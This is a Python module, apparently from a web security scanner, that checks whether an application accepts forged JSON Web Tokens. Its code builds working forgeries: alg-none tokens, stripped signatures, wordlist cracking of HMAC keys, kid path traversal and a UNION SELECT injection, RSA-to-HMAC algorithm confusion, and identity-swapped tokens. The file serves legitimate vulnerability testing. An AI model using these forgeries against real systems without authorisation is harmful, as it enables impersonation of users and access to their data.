"""Forged JSON Web Tokens (``jwt``, CWE-347): a token the application accepts without a valid signature.

Applies to a point whose whole value is a JWT, alone or after a scheme (``Bearer <jwt>``: the
``JWT`` layer of :mod:`lunge.http.points.encoded`), not to the claims inside it (other checks
attack those). The techniques are those of jwt_tool and PortSwigger's JWT labs:

1. **Offline cracking** (no request): an HS256/384/512 token's signature is recomputed with every
   key of ``data/jwt_secrets.yaml``; a match is a key anyone can sign with.
2. **Controls** (2 requests): the token replaced by a random word (*no token*), and the token with
   a random signature of the same length (*garbage signature*). When *no token* is answered like
   the genuine token the endpoint does not need the token at all: nothing to report. When the
   garbage signature is accepted the application does not verify signatures (a finding, confirmed
   by a second random signature).
3. **Forgeries** (5 requests, plus 1 with a cracked key): ``alg`` set to ``none``, ``None``,
   ``NONE`` and ``nOnE`` with an empty signature; the signature stripped; the claims re-signed with
   the cracked key and an added claim. A forgery answered like the genuine token while the garbage
   signature was rejected is a finding; the same forgery is sent again to confirm.
4. **Key-id tricks** (3 requests, tokens whose header has a ``kid``; jwt_tool's ``-I -hc kid``,
   PortSwigger's "kid header path traversal" lab): a server that reads the key from a file named by
   ``kid`` reads an empty file for ``../../../../../../../../dev/null`` (and ``/dev/null``, which an
   ``os.path.join`` keeps absolute); the token is signed with the empty key (HMAC pads keys with
   zero bytes, so a key of one NUL byte verifies too). A server that looks the key up in SQL by
   ``kid`` returns our key for ``x' UNION SELECT '<key>'-- ``; the token is signed with ``<key>``.
5. **Algorithm confusion** (2 requests per public key, at most 2 keys; RS/PS tokens only): with the
   RSA public keys the engine found for the origin (``ctx.public_keys``: its JWK Set, its OpenID
   metadata's ``jwks_uri``, PEM blocks in recorded responses), the header's ``alg`` set to HS256 and
   the token signed with the PEM file's bytes (:mod:`lunge.checks.jwks`, both serialisations): a
   library that verifies with "the key" and the token's own ``alg`` accepts it.

6. **Identity swap** (2 requests, 3 when it works): once a forgery got in (a random signature
   included), the same forgery is made of the token's claims with its identity claim (``sub``,
   ``user_id``, ``username``, ``email`` ...) set to another value the record's tokens gave that
   claim (``ctx.token_claims``), and again with a random one. When the other identity gets a
   success page of its own (unlike the genuine token's, unlike the random identity's), twice, the
   finding says so and is critical: the forged token reaches other users' data.

Judged by :mod:`lunge.checks.accepted`: only where the genuine token's answer is a stable success.
Budget for a token that resists: 2 + 5 (+ 1) = 7 or 8 requests per point, + 3 with a ``kid``, + 4
for an RSA token whose issuer publishes its key; none without a token.
"""

from __future__ import annotations

import base64
import binascii
import hashlib
import hmac
import json
from collections.abc import Generator
from dataclasses import dataclass
from typing import Any

from lunge.checks import accepted, datafiles
from lunge.checks.base import Attack, Check, CheckContext, Confidence, Exchange, Probe, Severity, Verdict
from lunge.checks.jwks import RsaKey
from lunge.checks.sqli_context import differs, usable
from lunge.http.points.encoded import jwt_layer


@datafiles.schema
@dataclass(frozen=True, slots=True)
class SecretTable:
    secrets: tuple[str, ...]


SECRETS = datafiles.load("jwt_secrets.yaml", SecretTable).secrets
NONE_SPELLINGS = ("none", "None", "NONE", "nOnE")  # libraries compared case-sensitively, or not
_HASHES = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}


@dataclass(frozen=True, slots=True)
class Token:
    """A JWT inside a point's value: ``prefix`` (``"Bearer "``), its three parts, decoded."""

    prefix: str
    head: str
    body: str
    signature: str
    header: dict[str, Any]
    claims: dict[str, Any]

    @property
    def alg(self) -> str:
        return str(self.header.get("alg", ""))

    def value(self, token: str) -> str:
        """The point's value carrying ``token`` instead."""
        return f"{self.prefix}{token}"


def parse_token(value: str) -> Token | None:
    """The JWT ``value`` carries (whole, or after a scheme), else None.

    >>> t = parse_token("Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJhIn0.c2ln")
    >>> (t.prefix, t.alg, t.claims)
    ('Bearer ', 'HS256', {'sub': 'a'})
    """
    layer = jwt_layer(value)
    if not layer:
        return None
    start, end = layer[0].span
    head, _, rest = value[start:end].partition(".")
    body, _, signature = rest.partition(".")
    header, claims = _decode(head), _decode(body)
    if header is None or claims is None:
        return None
    return Token(value[:start], head, body, signature, header, claims)


def _decode(part: str) -> dict[str, Any] | None:
    try:
        value = json.loads(base64.urlsafe_b64decode(part + "=" * (-len(part) % 4)))
    except (binascii.Error, ValueError, UnicodeDecodeError):
        return None
    return value if isinstance(value, dict) else None


def b64url(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).decode("ascii").rstrip("=")


def _encode(document: dict[str, Any]) -> str:
    return b64url(json.dumps(document, separators=(",", ":")).encode())


def sign(alg: str, key: str | bytes, signing_input: str) -> str:
    """The HMAC signature (base64url) of ``signing_input`` with ``key`` for ``alg`` (HS256/384/512).

    >>> sign("HS256", "", "e30.e30") == sign("HS256", b"\\0", "e30.e30")  # keys are zero-padded
    True
    """
    secret = key.encode() if isinstance(key, str) else key
    return b64url(hmac.new(secret, signing_input.encode("ascii"), _HASHES[alg]).digest())


def forge(header: dict[str, Any], body: str, key: str | bytes) -> str:
    """A token of ``header`` (its ``alg`` must be an HMAC one) and payload part ``body``, signed with
    ``key``."""
    head = _encode(header)
    return f"{head}.{body}.{sign(str(header['alg']), key, f'{head}.{body}')}"


def crack(token: Token) -> str | None:
    """The wordlist key that signed ``token`` (HMAC algorithms only), else None. No request."""
    if token.alg not in _HASHES or not token.signature:
        return None
    signing_input = f"{token.head}.{token.body}"
    for key in SECRETS:
        if hmac.compare_digest(sign(token.alg, key, signing_input), token.signature):
            return key
    return None


TEN_YEARS = 10 * 365 * 24 * 3600


def _lasting_claims(token: Token) -> dict[str, Any]:
    exp = token.claims.get("exp")
    if isinstance(exp, int) and not isinstance(exp, bool):
        return {**token.claims, "exp": exp + TEN_YEARS}
    return token.claims


def lasting(token: Token) -> str:
    """The token's payload part, with ``exp`` (if any) moved ten years on: a recorded token has
    often expired by the time it is tested (the engine renews the genuine one, not a forgery), and
    an expired forgery would be refused for its age, not its signature. The controls use the same
    payload, so both sides differ only in the signature."""
    return _encode(_lasting_claims(token)) if "exp" in token.claims else token.body


def _applies(ctx: CheckContext) -> bool:
    if any(step.parser == "JWT" for step in ctx.point.path):
        return False
    return parse_token(ctx.point.value) is not None


def _garbage(ctx: CheckContext, token: Token) -> str:
    size = max(len(token.signature), 16)
    return b64url(bytes(ctx.rng.getrandbits(8) for _ in range(size)))[:size]


@dataclass(frozen=True, slots=True)
class Forgery:
    """One way of making tokens the application may accept: a header part and how to sign.

    ``key`` is the HMAC key for ``alg`` (None: the fixed ``signature``, empty for alg none and a
    stripped signature). :meth:`make` signs any payload part the same way, so the forgery that got
    in can carry another identity's claims too."""

    label: str
    head: str
    alg: str = "HS256"
    key: bytes | None = None
    signature: str = ""

    def make(self, body: str) -> str:
        if self.key is None:
            return f"{self.head}.{body}.{self.signature}"
        return f"{self.head}.{body}.{sign(self.alg, self.key, f'{self.head}.{body}')}"


def _forgeries(ctx: CheckContext, token: Token, key: str | None) -> list[tuple[Forgery, str]]:
    """Each forgery and the token it makes of the recorded claims (a marked copy for a cracked key)."""
    out = [Forgery(f"jwt:alg-{spelling}", _encode({**token.header, "alg": spelling})) for spelling in NONE_SPELLINGS]
    out.append(Forgery("jwt:signature-stripped", token.head))
    tokens = [(forgery, forgery.make(lasting(token))) for forgery in out]
    if key is not None:
        cracked = Forgery("jwt:cracked-key", token.head, token.alg, key.encode())
        tokens.append((cracked, cracked.make(_encode({**_lasting_claims(token), "lunge": ctx.marker()}))))
    extra = [*kid_forgeries(ctx, token), *confusion_forgeries(token, ctx.public_keys)]
    return [*tokens, *((forgery, forgery.make(lasting(token))) for forgery in extra)]


KID_FILES = ("../../../../../../../../dev/null", "/dev/null")  # an empty file on every Unix
MAX_PUBLIC_KEYS = 2


def kid_forgeries(ctx: CheckContext, token: Token) -> list[Forgery]:
    """Forgeries whose ``kid`` names an empty file (signed with the empty key) or injects our key
    into an SQL lookup (signed with it); only for a token that carries a ``kid``."""
    if "kid" not in token.header:
        return []
    hs = {**token.header, "alg": "HS256"}
    out = [Forgery("jwt:kid-path-traversal", _encode({**hs, "kid": path}), key=b"") for path in KID_FILES]
    secret = ctx.marker(16)
    sql = f"{ctx.marker(6)}' UNION SELECT '{secret}'-- "
    out.append(Forgery("jwt:kid-sql-injection", _encode({**hs, "kid": sql}), key=secret.encode()))
    return out


def confusion_forgeries(token: Token, keys: tuple[RsaKey, ...]) -> list[Forgery]:
    """HS256 forgeries signed with each serialisation of each public key (RS/PS tokens only).

    >>> t = parse_token("eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJhIn0.c2ln")
    >>> [f.label for f in confusion_forgeries(t, (RsaKey(65537, 3),))]
    ['jwt:alg-confusion-spki-pem', 'jwt:alg-confusion-pkcs1-pem']
    """
    if not token.alg.startswith(("RS", "PS")):
        return []
    head = _encode({**token.header, "alg": "HS256"})
    return [Forgery(f"jwt:alg-confusion-{name}", head, key=pem)
            for key in keys[:MAX_PUBLIC_KEYS] for name, pem in key.pems()]


def _send(ctx: CheckContext, token: Token, forged: str, label: str) -> Attack:
    value = token.value(forged)
    return Attack(ctx.inject(value), value, label)


def _run(ctx: CheckContext) -> Probe:
    token = parse_token(ctx.point.value)
    if token is None or not accepted.comparable(ctx):
        return []
    key = crack(token)
    garbage = Forgery("jwt:garbage-signature", token.head, signature=_garbage(ctx, token))
    missing, wrong = yield [_send(ctx, token, ctx.marker(24), "jwt:no-token"),
                            _send(ctx, token, garbage.make(lasting(token)), garbage.label)]
    if not accepted.rejected(ctx, missing):
        return []  # the endpoint answers the same without the token (or did not answer): no oracle
    if accepted.accepted(ctx, wrong):
        return (yield from _unverified(ctx, token, garbage, wrong, missing, key))
    if not accepted.rejected(ctx, wrong):
        return []
    forgeries = _forgeries(ctx, token, key)
    answers = yield [_send(ctx, token, forged, forgery.label) for forgery, forged in forgeries]
    for (forgery, _), exchange in zip(forgeries, answers, strict=True):
        if not accepted.accepted(ctx, exchange):
            continue
        (again,) = yield [Attack(exchange.attack.request, exchange.attack.payload, "jwt:confirm")]
        if accepted.accepted(ctx, again):
            swap = yield from _swap(ctx, token, forgery)
            return [_verdict(ctx, exchange, (ctx.normal, missing, wrong, again), key, answers, swap)]
    return []


def _unverified(ctx: CheckContext, token: Token, garbage: Forgery, wrong: Exchange, missing: Exchange,
                key: str | None) -> Generator[list[Attack], list[Exchange], list[Verdict]]:
    other = f"{token.head}.{lasting(token)}.{_garbage(ctx, token)}"
    (again,) = yield [_send(ctx, token, other, "jwt:garbage-signature-confirm")]
    if not accepted.accepted(ctx, again):
        return []
    swap = yield from _swap(ctx, token, garbage)
    return [JWT.verdict(
        ctx, wrong, proof=accepted.excerpt(wrong), confidence=Confidence.CERTAIN,
        confirmation="a second random signature was accepted too, while a request without the token was "
                     f"refused (status {missing.status}){_swapped(swap)}",
        controls=(ctx.normal, missing, again),
        details={"technique": "signature-not-verified", "alg": token.alg, "cracked_key": key,
                 "no_token_status": missing.status, "identity_swap": swap},
        severity=Severity.CRITICAL if swap else None,
    )]


# Claims that name the token's user (RFC 7519 4.1.2, OpenID Connect Core 5.1, and common custom ones).
IDENTITY_CLAIMS = ("sub", "user_id", "userId", "uid", "username", "user", "preferred_username", "email", "name")


def swap_target(ctx: CheckContext, token: Token) -> tuple[str, str | int, str | int] | None:
    """(claim, the token's value, another value the record's tokens gave it), else None."""
    for claim in IDENTITY_CLAIMS:
        mine = token.claims.get(claim)
        if isinstance(mine, bool) or not isinstance(mine, str | int):
            continue
        for other in ctx.token_claims.get(claim, ()):
            if other != mine and type(other) is type(mine):
                return claim, mine, other
    return None


def _serves_another(ctx: CheckContext, served: Exchange, unknown: Exchange) -> bool:
    """A success page of its own: unlike the genuine token's, and unlike an unknown identity's."""
    if not usable(served) or not 200 <= served.status < 300 or not differs(ctx, served):
        return False
    return not usable(unknown) or unknown.status != served.status or differs(ctx, served, unknown)


def _swap(ctx: CheckContext, token: Token,
          forgery: Forgery) -> Generator[list[Attack], list[Exchange], dict[str, Any] | None]:
    """With a forgery that got in: the same forgery carrying another identity the record showed
    (2 requests, 3 when it serves that identity: confirmed once more). What it proved, else None."""
    target = swap_target(ctx, token)
    if target is None:
        return None
    claim, mine, other = target
    claims = _lasting_claims(token)
    stranger: str | int = ctx.marker(12) if isinstance(mine, str) else ctx.number(900_000_000, 999_999_999)
    served, unknown = yield [
        _send(ctx, token, forgery.make(_encode({**claims, claim: other})), "jwt:identity-swap"),
        _send(ctx, token, forgery.make(_encode({**claims, claim: stranger})), "jwt:identity-unknown")]
    if not _serves_another(ctx, served, unknown):
        return None
    (again,) = yield [Attack(served.attack.request, served.attack.payload, "jwt:identity-swap-confirm")]
    if not _serves_another(ctx, again, unknown):
        return None
    return {"claim": claim, "from": mine, "to": other, "status": served.status, "answer": accepted.excerpt(served),
            "unknown_identity_status": unknown.status, "request": served.attack.payload}


def _swapped(swap: dict[str, Any] | None) -> str:
    if not swap:
        return ""
    return (f"; the same forgery with {swap['claim']}={swap['to']!r} (another identity from the record's tokens) "
            f"was served another user's page twice (status {swap['status']}), unlike an unknown "
            f"{swap['claim']} (status {swap['unknown_identity_status']})")


def _verdict(ctx: CheckContext, exchange: Exchange, controls: tuple[Exchange, ...], key: str | None,
             answers: list[Exchange], swap: dict[str, Any] | None) -> Verdict:
    label = exchange.attack.label.removeprefix("jwt:")
    others = [a.attack.label.removeprefix("jwt:") for a in answers if accepted.accepted(ctx, a)]
    technique = "alg-confusion" if label.startswith("alg-confusion") else label
    how = _HOW.get(technique, "")
    if label == "cracked-key":
        how = f"the key {key!r} from the built-in wordlist verifies the recorded signature (offline); "
    forged = parse_token(exchange.attack.payload)
    return JWT.verdict(
        ctx, exchange, proof=accepted.excerpt(exchange), confidence=Confidence.CERTAIN,
        confirmation=f"{how}the forged token ({label}) was answered like the genuine one twice, while the same "
                     f"token with a random signature (status {controls[2].status}) and no token at all "
                     f"(status {controls[1].status}) were refused{_swapped(swap)}",
        controls=controls,
        details={"technique": technique, "forgery": label, "accepted_forgeries": others, "cracked_key": key,
                 "header": forged.header if forged else None, "identity_swap": swap},
        severity=Severity.CRITICAL if label == "cracked-key" or swap else None,
    )


_HOW = {
    "kid-path-traversal": "the forged header's kid names an empty file (/dev/null) and the token is signed with "
                          "the empty key; ",
    "kid-sql-injection": "the forged header's kid injects a UNION SELECT of our own key into the key lookup and "
                         "the token is signed with that key; ",
    "alg-confusion": "the forged token says HS256 and is signed with the bytes of the application's own RSA "
                     "public key (PEM) as the HMAC secret; ",
}


JWT = Check(
    id="jwt",
    title="Forged JSON Web Token accepted",
    kind="jwt",
    severity=Severity.HIGH,
    cwe=347,
    description="The application accepts a JSON Web Token whose signature it did not verify: alg none, a "
    "stripped or random signature, a token re-signed with a guessable HMAC key, a key id that points the key "
    "lookup at an empty file or at a key of our own (SQL), or an HS256 token signed with the application's "
    "public RSA key. Anyone can mint tokens for any identity.",
    run=_run,
    applies=_applies,
    uses_public_keys=True,
    remediation="Verify every token with a fixed algorithm list that excludes none (never the token's own alg "
    "header), reject tokens without a valid signature, and sign HMAC tokens with a random key of 256 bits "
    "or more kept out of the source. Look keys up by kid in a fixed table (never a path or a query built "
    "from it), and bind each key to its algorithm.",
)
CHECKS = (JWT,)
